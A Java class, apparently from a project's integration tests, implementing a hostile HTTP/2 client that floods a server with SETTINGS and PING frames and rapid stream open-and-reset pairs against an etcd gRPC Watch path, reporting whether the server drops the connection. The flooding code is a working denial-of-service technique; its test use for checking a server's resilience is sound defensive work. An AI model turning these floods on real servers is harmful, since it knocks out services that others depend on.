package io.lattice.it.frontdoor;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.net.Socket;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import org.slf4j.Logger;
import org.slf4j.LoggerFactory;

/// A client of HTTP/2 that means ill: it sends frames as fast as they are taken, and reads only if it is asked to.
final class Http2Flood implements AutoCloseable {
    private static final Logger LOG = LoggerFactory.getLogger(Http2Flood.class);
    private static final int HEADERS = 1;
    private static final int RST_STREAM = 3;
    private static final int SETTINGS = 4;
    private static final int PING = 6;
    private static final int END_HEADERS = 4;
    private static final int CANCEL = 8;
    private static final int SILENCE_MS_MAX = 20_000;
    private static final int WRITE_BYTES = 64 << 10;

    private final Socket socket;

    Http2Flood(String host, int port) throws IOException {
        socket = new Socket(host, port);
        socket.setSoTimeout(SILENCE_MS_MAX);
        send("PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n".getBytes(StandardCharsets.US_ASCII));
        send(frame(SETTINGS, 0, 0, new byte[0]));
    }

    private void send(byte[] bytes) throws IOException {
        socket.getOutputStream().write(bytes);
    }

    /// Settings without end, whose acknowledgements nobody takes.
    ///
    /// @return whether the server cut the connection off before it had taken that many frames
    boolean settings(int frames) {
        return repeated(frame(SETTINGS, 0, 0, new byte[0]), frames);
    }

    /// Pings without end, whose answers nobody takes.
    boolean pings(int frames) {
        return repeated(frame(PING, 0, 0, new byte[8]), frames);
    }

    /// Opens streams and resets them at once. What the server says is read by another thread.
    boolean resets(int streams) {
        Thread.ofVirtual().start(this::readOn);
        byte[] head = callOfWatch();
        byte[] cancel = {0, 0, 0, CANCEL};
        try {
            ByteArrayOutputStream many = new ByteArrayOutputStream();
            for (int i = 0; i < streams; i++) {
                int stream = 2 * i + 1;
                many.writeBytes(frame(HEADERS, END_HEADERS, stream, head));
                many.writeBytes(frame(RST_STREAM, 0, stream, cancel));
                if (many.size() > WRITE_BYTES) {
                    send(many.toByteArray());
                    many.reset();
                }
            }
            return false;
        } catch (IOException cutOff) {
            return true;
        }
    }

    private void readOn() {
        try {
            socket.getInputStream().transferTo(OutputStream.nullOutputStream());
        } catch (IOException cutOff) {
            LOG.debug("the thread that writes finds out too", cutOff);
        }
    }

    private boolean repeated(byte[] frame, int frames) {
        int perWrite = WRITE_BYTES / frame.length;
        ByteBuffer many = ByteBuffer.allocate(perWrite * frame.length);
        for (int i = 0; i < perWrite; i++) {
            many.put(frame);
        }
        try {
            for (int sent = 0; sent < frames; sent += perWrite) {
                send(many.array());
            }
            return false;
        } catch (IOException cutOff) {
            return true;
        }
    }

    private static byte[] callOfWatch() {
        ByteArrayOutputStream head = new ByteArrayOutputStream();
        head.write(0x83); // :method POST
        head.write(0x86); // :scheme http
        literal(head, "/etcdserverpb.Watch/Watch", 0x04); // :path
        literal(head, "x", 0x01); // :authority
        literal(head, "application/grpc", 0x0f, 0x10); // content-type
        return head.toByteArray();
    }

    /// A literal of HPACK with an indexed name.
    private static void literal(ByteArrayOutputStream out, String value, int... index) {
        for (int part : index) {
            out.write(part);
        }
        out.write(value.length());
        out.writeBytes(value.getBytes(StandardCharsets.US_ASCII));
    }

    private static byte[] frame(int type, int flags, int stream, byte[] payload) {
        return ByteBuffer.allocate(9 + payload.length)
                .put((byte) (payload.length >> 16))
                .putShort((short) payload.length)
                .put((byte) type)
                .put((byte) flags)
                .putInt(stream)
                .put(payload)
                .array();
    }

    @Override
    public void close() throws IOException {
        socket.close();
    }
}
